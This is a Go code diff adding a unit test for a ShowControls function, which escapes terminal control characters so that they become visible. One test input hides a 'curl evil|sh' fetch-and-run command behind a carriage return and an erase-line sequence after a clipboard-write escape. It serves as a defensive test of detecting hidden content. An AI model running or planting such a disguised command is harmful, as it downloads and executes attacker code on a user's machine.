@@ -203,3 +203,16 @@ func BenchmarkHasHiddenPlainLine(b *testing.B) {
 		})
 	}
 }
+
+func TestShowControls(t *testing.T) {
+	for _, tc := range []struct{ in, want string }{
+		{`plain text, a \n kept as typed`, `plain text, a \n kept as typed`},
+		{"é ✓ 日本", "é ✓ 日本"},
+		{"\x1b]52;c;eA==\acurl evil|sh;:\r\x1b[Kecho hi", `\x1b]52;c;eA==\acurl evil|sh;:\r\x1b[Kecho hi`},
+		{"a\tb\nc\x00d\x7f", `a\tb\nc\x00d\x7f`},
+		{"csi\u009b2J osc\u009d", `csi\u009b2J osc\u009d`},
+		{"bad\xffbyte\xc2", `bad\xffbyte\xc2`},
+	} {
+		assert.Equal(t, tc.want, ShowControls(tc.in), "%q", tc.in)
+	}
+}
